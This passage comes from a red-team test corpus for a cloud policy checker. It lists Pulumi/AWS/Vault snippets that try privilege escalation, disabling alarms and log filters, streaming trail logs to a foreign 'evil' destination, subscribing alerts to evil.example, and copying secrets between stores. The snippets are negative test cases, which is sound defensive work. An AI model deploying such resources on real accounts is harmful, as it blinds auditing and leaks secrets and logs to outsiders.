    v("detach-role-policy", "no-privilege-escalation", _rp("iam:DetachRolePolicy", '"*"')),
    v("create-public-function-url", "no-privilege-escalation", _rp("lambda:CreateFunctionUrlConfig", '"*"')),
    # ---- detection AWS overwrites in place ----
    v("alarm-of-the-same-name-with-actions-off", "closed-world",
      '_aws.cloudwatch.MetricAlarm("x", name=_S.secret_prefix + "-" + _S.environment + "-rotation-revoke-failures", actions_enabled=False, '
      'comparison_operator="GreaterThanThreshold", evaluation_periods=1, metric_name="m", namespace="n", period=60, statistic="Sum", threshold=1e9)'),
    v("metric-filter-of-the-same-name-matching-nothing", "closed-world",
      '_aws.cloudwatch.LogMetricFilter("x", name=_S.secret_prefix + "-" + _S.environment + "-secret-reads", log_group_name=_n.trail_log_group_name(_S), '
      'pattern="{ $.eventName = \\"Nothing\\" }", metric_transformation={"name": "m", "namespace": "n", "value": "1"})'),
    v("trail-log-group-again-one-day", "closed-world",
      '_aws.cloudwatch.LogGroup("x", name=_n.trail_log_group_name(_S), retention_in_days=1)'),
    v("alert-topic-second-policy-open", "closed-world",
      '_aws.sns.TopicPolicy("x", arn=_n.alarm_topic_arn(_S), policy=_doc({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sns:*", "Resource": "*"}))'),
    v("trail-log-group-streamed-to-another-account", "closed-world",
      '_aws.cloudwatch.LogSubscriptionFilter("x", name="exfil", log_group=_n.trail_log_group_name(_S), filter_pattern="", '
      'destination_arn="arn:aws:logs:" + _R + ":999988887777:destination:evil")'),
)
"""Red team 2 (issue 11): classes beyond the first corpus, each closed at its policy."""

VARIANTS = VARIANTS + REDTEAM2

OPEN_BYPASSES: tuple[Variant, ...] = ()
"""Variants that still pass `check` (not run as tests; see the red-team report). They are kept
here so the fix can flip them into VARIANTS."""

_UNDER_FLEET = "opts=_pulumi.ResourceOptions(parent=fleet)"
_UNDER_CRM = 'opts=_pulumi.ResourceOptions(parent=fleet.agents["crm"])'
_CRM_ROTATION = "_n.rotation_role_name(_S, 'crm')"
_LOOKALIKE = '''
class _Lookalike(_pulumi.ComponentResource):
    def __init__(self, token, name, props=None):
        super().__init__(token, name, props or {}, None)
'''

PARENTED_VARIANTS: tuple[Variant, ...] = (
    # ---- `parent=` the fleet, an agent's component, or a look-alike `agentfleet:` component ----
    v("under-fleet-lambda-as-rotation-role", "closed-world",
      f'_aws.lambda_.Function("x", name="helper", runtime="python3.12", handler="h.h", code=_pulumi.AssetArchive({{}}), '
      f'role=_n.role_arn(_S, {_CRM_ROTATION}), {_UNDER_FLEET})'),
    v("under-fleet-lambda-named-like-rotation-role-other-region", "closed-world",
      f'_p = _aws.Provider("west", region="us-west-2")\n'
      f'_aws.lambda_.Function("x", name={_CRM_ROTATION}, runtime="python3.12", handler="h.h", code=_pulumi.AssetArchive({{}}), '
      f'role=_n.role_arn(_S, {_CRM_ROTATION}), opts=_pulumi.ResourceOptions(parent=fleet, provider=_p))'),
    v("under-agent-lambda-named-like-agent-role", "closed-world",
      f'_aws.lambda_.Function("x", name=_CRM_ROLE, runtime="python3.12", handler="h.h", code=_pulumi.AssetArchive({{}}), '
      f'role=fleet.agents["crm"].role.arn, {_UNDER_CRM})'),
    v("under-agent-instance-profile", "closed-world",
      f'_aws.iam.InstanceProfile("x", role=fleet.agents["crm"].role.name, {_UNDER_CRM})'),
    v("under-agent-cloudformation-stack", "closed-world",
      f'_aws.cloudformation.Stack("x", name="s", template_body="{{}}", parameters={{"S": _STRIPE_SECRET.arn}}, {_UNDER_FLEET})'),
    v("under-fleet-schedule-as-scheduler-role-to-raw-target", "closed-world",
      f'_aws.scheduler.Schedule("x", name=_S.secret_prefix + "-" + _S.environment + "-extra", schedule_expression="rate(1 hour)", '
      f'flexible_time_window={{"mode": "OFF"}}, target={{"arn": "arn:aws:lambda:" + _R + ":" + _ACCT + ":function:raw", '
      f'"role_arn": _n.role_arn(_S, _n.scheduler_role_name(_S))}}, {_UNDER_FLEET})'),
    v("under-fleet-event-target-as-agent-role", "closed-world",
      f'_aws.cloudwatch.EventTarget("x", rule="r", arn="arn:aws:ecs:" + _R + ":" + _ACCT + ":cluster/c", '
      f'role_arn=fleet.agents["crm"].role.arn, {_UNDER_FLEET})'),
    v("under-agent-pod-identity-other-service-account", "closed-world",
      f'_aws.eks.PodIdentityAssociation("x", cluster_name="c", namespace="default", service_account="anyone", '
      f'role_arn=fleet.agents["crm"].role.arn, {_UNDER_CRM})'),
    v("under-agent-vault-jwt-login-copy", "vault-login-confined",
      f'_vault.jwt.AuthBackendRole("x", backend="jwt", role_name=_VAULT_CRM, role_type="jwt", token_policies=[_VAULT_CRM], '
      f'token_no_default_policy=True, bound_audiences=["vault"], user_claim="sub", bound_subject="repo:evil/evil:ref:refs/heads/main", {_UNDER_CRM})'),
    v("under-agent-vault-aws-login-for-other-role", "vault-login-confined",
      f'_vault.aws.AuthBackendRole("x", backend="aws", role=_VAULT_CRM + "-ci", auth_type="iam", token_policies=[_VAULT_CRM], '
      f'token_no_default_policy=True, bound_iam_principal_arns=[_n.role_arn(_S, _BILLING_ROLE)], {_UNDER_CRM})'),
    v("under-fleet-vault-token-with-agent-policy", "vault-login-confined",
      f'_vault.Token("x", policies=[_VAULT_CRM], no_default_policy=True, {_UNDER_FLEET})'),
    v("lookalike-access-component-ecs-task", "closed-world",
      _LOOKALIKE + '_c = _Lookalike("agentfleet:index:AgentAccess", "crm-extra")\n'
      '_aws.ecs.TaskDefinition("x", family="f", container_definitions="[]", task_role_arn=fleet.agents["crm"].role.arn, '
      'opts=_pulumi.ResourceOptions(parent=_c))'),
    v("lookalike-fleet-component-trusts-foreign-account", "trust-policy-scoped",
      _LOOKALIKE + '_c = _Lookalike("agentfleet:index:AgentFleet", "agents-2", {"policyConfig": {"trustedAccounts": ["999999999999"]}})\n'
      '_aws.iam.Role("x", name="partner", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": '
      '{"AWS": "arn:aws:iam::999999999999:root"}, "Action": "sts:AssumeRole"}), opts=_pulumi.ResourceOptions(parent=_c))'),
)
"""Variants that name the program's own objects as parents: they run appended to the real program
(tests/redteam/test_redteam_corpus.py `test_parented_variant_fails_check`), not in the replay."""

VARIANTS = VARIANTS + (
    v("alert-topic-subscribed-by-an-outside-endpoint", "closed-world",
      '_aws.sns.TopicSubscription("x", topic=_n.alarm_topic_arn(_S), protocol="https", endpoint="https://evil.example/hook")'),
)

VARIANTS = VARIANTS + (
    # ---- a value read by an invoke (data source) at deploy time, written into another secret ----
    v("invoke-copies-another-agents-secret-value", "no-literal-secret-values",
      '_src = _aws.secretsmanager.get_secret_version_output(secret_id=_STRIPE_SECRET.arn)\n'
      '_aws.secretsmanager.SecretVersion("x", secret_id=_n.secret_name(_S, "crm", "salesforce"), secret_string=_src.secret_string)'),
    v("invoke-copies-a-vault-secret-into-ssm", "no-literal-secret-values",
      '_src = _vault.kv.get_secret_v2_output(mount="kv", name="dev/billing/stripe")\n'
      '_aws.ssm.Parameter("x", name="/copy", type="SecureString", value=_src.data_json, tags=_TAGS)'),
)
